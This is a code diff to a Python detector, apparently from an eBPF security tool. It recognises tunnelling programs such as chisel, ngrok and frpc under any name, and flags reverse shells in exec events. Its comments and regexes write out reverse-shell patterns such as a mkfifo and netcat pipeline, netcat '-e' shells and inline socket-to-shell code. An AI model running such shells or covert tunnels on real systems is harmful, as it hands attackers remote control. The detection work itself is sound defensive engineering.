@@ -13,6 +13,16 @@ program names it applies to (so users can add a renamed or vendored copy):
 Not alerts: local and dynamic forwards (`chisel client` with only local remotes,
 `kubectl port-forward`, sshuttle), servers (`chisel server`, `bore server`), and management
 commands (`cloudflared tunnel list`, `ngrok config ...`, `code tunnel status`).
+
+Names are free to change, so the tools are also recognised by their argument grammar under
+any name (`GRAMMARS`: chisel's `client URL R:...`, cloudflared's and untun's `tunnel --url`,
+ligolo-ng's agent `-connect HOST:PORT`, frpc's `tcp -s SERVER -l PORT`, gost's `-L rtcp://`,
+inlets' `client --url wss:// --upstream`, rathole's `--client`, bore's `local N --to`,
+socat's exec and network addresses, netcat's `-e SHELL HOST PORT`, inline interpreter code).
+Every command an exec would run is judged: wrappers peeled off (`nohup`, `timeout`,
+`sshpass`...) and each command of `sh -c` scripts, whose pipelines are also read whole for
+shells wired to a network client (`mkfifo f; nc HOST PORT <f | sh >f`, `telnet ... | sh |
+telnet ...`).
 """
 
 from __future__ import annotations
@@ -21,8 +31,11 @@ import re
 from dataclasses import dataclass
 from typing import Callable, Iterable, Optional, Sequence
 
+import re2
+
+from ebpfguard.detect.cmdline import commands_of, program_name, shell_script
 from ebpfguard.detect.execinfo import (
-    basename, exec_succeeded, first_positional, program_and_args,
+    basename, exec_argv, exec_succeeded, first_positional, program_and_args,
 )
 from ebpfguard.detect.registry import Detector, Event, Finding, RuleContext, detector
 
@@ -194,9 +207,16 @@ def shell_redirect(args: Sequence[str]) -> Optional[TunnelMatch]:
     return TunnelMatch("shell", "shell_redirect", target.group(0), CRITICAL)
 
 
-INLINE_SOCKET = re.compile(r"socket|fsockopen|TCPSocket|net\.connect", re.IGNORECASE)
-INLINE_DUP = re.compile(r"dup2|pty\.spawn|<&\s*\d|>&\s*\d|open\s*\(\s*STDIN|\.pipe\(")
-INLINE_SHELL = re.compile(r"/bin/(ba|z|k|da)?sh\b|[\"'](ba)?sh[\"']|\bsh\s+-i\b|cmd\.exe")
+INLINE_SOCKET = re2.compile(r"(?i)socket|fsockopen|TCPSocket|net\.connect|create_connection")
+# How the socket reaches the shell: dup2, pty, fd redirections (`<&3`, `<&%d`), STDIN
+# reopened, stream pipes, or a child process given the socket as its stdin/stdout.
+INLINE_DUP = re2.compile(
+    r"dup2|pty\.spawn|<&\s*(\d|%d)|>&\s*(\d|%d)|open\s*\(\s*STDIN|\.pipe\(|"
+    r"std(in|out)\s*=\s*\w+|proc_open|array\(\s*0\s*=>"
+)
+INLINE_SHELL = re2.compile(r"/bin/(ba|z|k|da)?sh\b|[\"'](ba)?sh[\"']|\bsh\s+-i\b|cmd\.exe")
+# Options that hand an interpreter its program inline: python -c, perl/ruby/node -e, php -r.
+INLINE_CODE_OPTIONS = frozenset({"-c", "-e", "-E", "-r", "--eval", "-x"})
 
 
 def inline_reverse_shell(args: Sequence[str]) -> Optional[TunnelMatch]:
@@ -208,12 +228,245 @@ def inline_reverse_shell(args: Sequence[str]) -> Optional[TunnelMatch]:
     return TunnelMatch("interpreter", "inline_reverse_shell", code[:200], CRITICAL)
 
 
+HELP_FLAGS = frozenset({"-h", "--help", "-help", "-V", "-v", "--version", "-version", "version", "help"})
+
+
+def always_tunnel(tool: str) -> Callable[[Sequence[str]], Optional[TunnelMatch]]:
+    """For programs whose every run (but help and version) exposes a service: playit,
+    tunnelto, pagekite, telebit, boringproxy clients."""
+    def classify(args: Sequence[str]) -> Optional[TunnelMatch]:
+        if HELP_FLAGS & set(args):
+            return None
+        return TunnelMatch(tool, "expose_service", " ".join(args))
+    return classify
+
+
+def rathole(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`rathole --client client.toml` (or a config naming its client section)."""
+    if "--client" in args or ("--server" not in args and any(a.endswith(".toml") for a in args)):
+        return TunnelMatch("rathole", "expose_service", " ".join(args))
+    return None
+
+
+GOST_REVERSE = ("rtcp://", "rudp://")
+
+
+def gost(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """gost's remote port forwards: `-L rtcp://:2222/127.0.0.1:22 -F ...` (v2 and v3)."""
+    for value in _option_values(args, ("-L",)):
+        if value.lower().startswith(GOST_REVERSE):
+            return TunnelMatch("gost", "reverse_forward", f"-L {value}")
+    return None
+
+
+def inlets(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`inlets client --url wss://... --upstream ...`, `inlets-pro tcp|http client ...`."""
+    if "client" not in [a for a in args if not a.startswith("-")][:2]:
+        return None
+    urls = _option_values(args, ("--url", "-u", "--remote"))
+    if any(u.lower().startswith(("ws://", "wss://")) for u in urls) and (
+            _option_values(args, ("--upstream", "--ports", "--port")) or "--upstream" in args):
+        return TunnelMatch("inlets", "expose_service", " ".join(args))
+    return None
+
+
+def zrok(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`zrok share public|private|reserved ...`: a share of a local service."""
+    words = [a for a in args if not a.startswith("-")]
+    if len(words) >= 2 and words[0] == "share" and words[1] in ("public", "private", "reserved"):
+        return TunnelMatch("zrok", "expose_service", " ".join(args))
+    return None
+
+
+def tailscale(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`tailscale funnel PORT` publishes a local port on the internet (`serve` does not)."""
+    words = [a for a in args if not a.startswith("-")]
+    if words[:1] == ["funnel"] and not {"status", "reset", "off"} & set(words[1:]):
+        return TunnelMatch("tailscale", "expose_service", " ".join(args))
+    return None
+
+
+def devtunnel(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """Microsoft dev tunnels: `devtunnel host [-p PORT]`."""
+    if first_positional(args) == "host":
+        return TunnelMatch("devtunnel", "expose_service", " ".join(args))
+    return None
+
+
+def localxpose(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """LocalXpose: `loclx tunnel http|tcp|tls|udp --to ...`."""
+    words = [a for a in args if not a.startswith("-")]
+    if words[:1] == ["tunnel"] and len(words) >= 2 and words[1] in ("http", "tcp", "tls", "udp"):
+        return TunnelMatch("localxpose", "expose_service", " ".join(args))
+    return None
+
+
 # Rule param (a list of program names) -> the classifier for those programs.
 CLASSIFIERS: dict[str, Callable[[Sequence[str]], Optional[TunnelMatch]]] = {
     "chisel": chisel, "frpc": frpc, "ngrok": ngrok, "cloudflared": cloudflared,
     "bore": bore, "localtunnel": localtunnel, "vscode": vscode_tunnel, "socat": socat,
     "netcat": netcat, "shells": shell_redirect, "interpreters": inline_reverse_shell,
+    "rathole": rathole, "gost": gost, "inlets": inlets, "zrok": zrok, "tailscale": tailscale,
+    "devtunnel": devtunnel, "localxpose": localxpose, "expose_always": always_tunnel("tunnel"),
 }
+
+
+# -- the same tools under any name: their argument grammar ------------------------------------
+
+REMOTE = re2.compile(r"R:(socks|(\[[0-9a-fA-F:.]+\]:|[\w.-]+:)?\d{1,5}(:[\w.-]+:\d{1,5}|:socks)?(/(tcp|udp))?)")
+HOST_PORT = re2.compile(r"(\[[0-9a-fA-F:.]+\]|[\w.-]+):\d{1,5}")
+PORT = re2.compile(r"\d{1,5}")
+LIGOLO_FLAGS = frozenset({"-ignore-cert", "-accept-fingerprint", "-retry", "-proxy", "-bind", "-v"})
+FRP_PROXY_TYPES = frozenset({"tcp", "udp", "http", "https", "stcp", "sudp", "xtcp", "tcpmux"})
+NGROK_ONLY_FLAGS = ("--authtoken", "--region", "--domain", "--url", "--basic-auth", "--oauth",
+                    "--remote-addr", "--hostname", "--subdomain", "--traffic-policy-file")
+SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "cmd.exe", "powershell", "pwsh"})
+
+
+def chisel_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """chisel's client grammar: `client [opts] SERVER R:...` with a well-formed reverse remote."""
+    if first_positional(args) != "client" or not any(REMOTE.fullmatch(a) for a in args):
+        return None
+    return chisel(args)
+
+
+def cloudflared_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`tunnel --url URL`, `tunnel [opts] run --token T`, untun's `tunnel http://...`."""
+    words = [a for a in args if not a.startswith("-")]
+    if words[:1] != ["tunnel"] or HELP_FLAGS & set(args):
+        return None
+    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
+    if flags & {"--url", "--token", "--hello-world"} or any(w.startswith(("http://", "https://")) for w in words[1:2]):
+        return TunnelMatch("cloudflared", "expose_service", " ".join(args))
+    return None
+
+
+def ligolo_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """ligolo-ng's agent: `-connect HOST:PORT` (Go's single-dash flags), with its own flags or
+    nothing else (`openssl s_client -connect` has a subcommand first)."""
+    values = _option_values(args, ("-connect", "--connect"))
+    if not values or not HOST_PORT.fullmatch(values[0]):
+        return None
+    rest = [a for a in args if a not in values and a.split("=", 1)[0] not in ("-connect", "--connect")]
+    positional = [a for a in rest if not a.startswith("-")]
+    if positional and not (LIGOLO_FLAGS & {a.split("=", 1)[0] for a in rest}):
+        return None
+    if positional and positional[0] in ("s_client", "s_time"):
+        return None
+    return TunnelMatch("ligolo-ng", "reverse_forward", f"-connect {values[0]}")
+
+
+def frpc_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """frpc's command-line proxies: `tcp|http|... -s SERVER[:PORT] -l LOCAL -r REMOTE`."""
+    if first_positional(args) not in FRP_PROXY_TYPES:
+        return None
+    server = _option_values(args, ("-s", "--server_addr", "--server-addr"))
+    local = _option_values(args, ("-l", "--local_port", "--local-port", "-r", "--remote_port", "--remote-port",
+                                  "-d", "--custom_domain", "--sd", "--subdomain"))
+    if server and local:
+        return TunnelMatch("frpc", "expose_service", " ".join(args))
+    return None
+
+
+def bore_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`local PORT --to HOST`."""
+    words = [a for a in args if not a.startswith("-")]
+    if words[:1] == ["local"] and len(words) >= 2 and PORT.fullmatch(words[1]) and _option_values(args, ("--to", "-t")):
+        return TunnelMatch("bore", "expose_service", " ".join(args))
+    return None
+
+
+def ngrok_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`http|tcp|tls PORT` with ngrok's own flags."""
+    words = [a for a in args if not a.startswith("-")]
+    if len(words) < 2 or words[0] not in ("http", "tcp", "tls") or not (PORT.fullmatch(words[1]) or HOST_PORT.fullmatch(words[1])):
+        return None
+    if not any(a.split("=", 1)[0] in NGROK_ONLY_FLAGS for a in args):
+        return None
+    return TunnelMatch("ngrok", "expose_service", " ".join(args))
+
+
+def netcat_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """netcat's `-e|-c SHELL` with a host and port beside it."""
+    match = netcat(args)
+    if match is None:
+        return None
+    program = match.detail.split(" ", 1)[-1].strip()
+    positional = [a for a in args if not a.startswith("-") and a != program]
+    if program_name(program.split(" ", 1)[0]) in SHELL_NAMES and any(PORT.fullmatch(a) for a in positional):
+        return match
+    return None
+
+
+def inline_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """Interpreter code given inline (`-c`, `-e`, `-r`) under any interpreter name."""
+    if not INLINE_CODE_OPTIONS & {a.split("=", 1)[0] for a in args if a.startswith("-")}:
+        return None
+    return inline_reverse_shell(args)
+
+
+def rathole_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
+    return rathole(args) if "--client" in args else None
+
+
+GRAMMARS: tuple[Callable[[Sequence[str]], Optional[TunnelMatch]], ...] = (
+    chisel_grammar, cloudflared_grammar, ligolo_grammar, frpc_grammar, gost, inlets, bore_grammar,
+    ngrok_grammar, socat, netcat_grammar, inline_grammar, rathole_grammar,
+)
+
+
+def _option_values(args: Sequence[str], options: Sequence[str]) -> list[str]:
+    """The values of the given options, joined (`-L=v`, `--url=v`) or separate (`-L v`)."""
+    values = []
+    for i, arg in enumerate(args):
+        name, equals, value = arg.partition("=")
+        if name in options:
+            if equals:
+                values.append(value)
+            elif i + 1 < len(args) and not args[i + 1].startswith("-"):
+                values.append(args[i + 1])
+    return values
+
+
+# -- shells wired to a network client in a script's pipelines ---------------------------------
+
+NETWORK_CLIENTS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "openssl", "socat",
+                             "cryptcat", "sbd", "pwncat"})
+FIFO_MAKERS = frozenset({"mkfifo", "mknod"})
+PIPELINE_SEPARATORS = re2.compile(r";|&&|\|\||\n|&")
+
+
+def shell_pipeline(script: str) -> Optional[TunnelMatch]:
+    """A pipeline joining a shell and a network client (`telnet H P | sh | telnet H P2`,
+    `cat f | sh -i | nc H P > f`), or a FIFO made in the same script and a network client
+    that reads or feeds a shell through it (`mkfifo f; nc H P <f | sh >f`)."""
+    script = script[:65536]
+    fifo = False
+    # Redirections (`2>&1`, `<&3`, `&>f`) hold `&` and `|&` pipes stderr too: neither ends a pipeline.
+    script = script.replace("|&", "|").replace(">&", ">").replace("<&", "<").replace("&>", ">")
+    for pipeline in PIPELINE_SEPARATORS.split(script):
+        stages = [stage.split() for stage in pipeline.split("|")]
+        names = [_stage_program(stage) for stage in stages if stage]
+        fifo = fifo or bool(FIFO_MAKERS & set(names))
+        clients = [name for name in names if name in NETWORK_CLIENTS]
+        shells = [name for name in names if name in SHELL_NAMES]
+        if clients and shells and len(names) >= 2:
+            return TunnelMatch("shell", "shell_pipeline", pipeline.strip()[:200], CRITICAL)
+        if fifo and clients and ("<" in pipeline or ">" in pipeline) and shells:
+            return TunnelMatch("shell", "shell_pipeline", pipeline.strip()[:200], CRITICAL)
+    return None
+
+
+def _stage_program(words: list[str]) -> str:
+    """The program a pipeline stage runs: redirections and `busybox` skipped."""
+    for index, word in enumerate(words):
+        if word[:1] in "<>" or word[:2] in ("2>", "1>", "0<"):
+            continue
+        name = program_name(word)
+        if name == "busybox" and index + 1 < len(words):
+            return program_name(words[index + 1])
+        return name
+    return ""
 
 
 def program_key(name: str) -> str:
@@ -235,10 +488,17 @@ class OtherTunnel(Detector):
         if not exec_succeeded(event):
             return []
         name, args = program_and_args(event)
-        if name in self.runners:
-            name, args = self.unwrap_runner(name, args)
-        classify = self.classifier_of.get(name) or self.classifier_of.get(program_key(name))
-        match = classify(args) if classify else None
+        match = self.classify(name, args)
+        if match is None:
+            # The same, for each command the exec would run (wrappers, `sh -c` scripts).
+            argv = exec_argv(event)
+            for command in list(commands_of(argv))[:16]:
+                if list(command.argv) == argv:
+                    continue  # the exec itself, judged above
+                match = self.classify(program_name(command.argv[0]), list(command.argv[1:]))
+                if match is not None:
+                    name = program_name(command.argv[0])
+                    break
         if match is None:
             return []
         return [Finding(
@@ -248,12 +508,31 @@ class OtherTunnel(Detector):
             severity=match.severity,
         )]
 
+    def classify(self, name: str, args: list[str]) -> Optional[TunnelMatch]:
+        """The tunnel one command is: by its name's classifier, then by grammar, then (for a
+        shell script) by its pipelines."""
+        grammar_args = args
+        if name in self.runners:
+            name, args = self.unwrap_runner(name, args)
+            script = first_positional(args)
+            # A script the runner starts takes the arguments after it, whatever it is called.
+            grammar_args = args[args.index(script) + 1:] if name in self.runners and script else args
+        classify = self.classifier_of.get(name) or self.classifier_of.get(program_key(name))
+        match = classify(args) if classify else None
+        if match is None:
+            match = next((m for m in (grammar(grammar_args) for grammar in GRAMMARS) if m is not None), None)
+        if match is None:
+            script = shell_script([name, *args])
+            if script is not None:
+                match = shell_pipeline(script)
+        return match
+
     def unwrap_runner(self, name: str, args: list[str]) -> tuple[str, list[str]]:
         """`npx localtunnel --port 80`, `node .../bin/lt.js --port 80` -> the tool's argv."""
         script = first_positional(args)
         if script is None:
             return name, args
-        tool = basename(script).removesuffix(".js")
+        tool = basename(script).removesuffix(".js").split("@", 1)[0]  # `untun@latest`
         if tool not in self.classifier_of:
             return name, args
         return tool, args[args.index(script) + 1:]
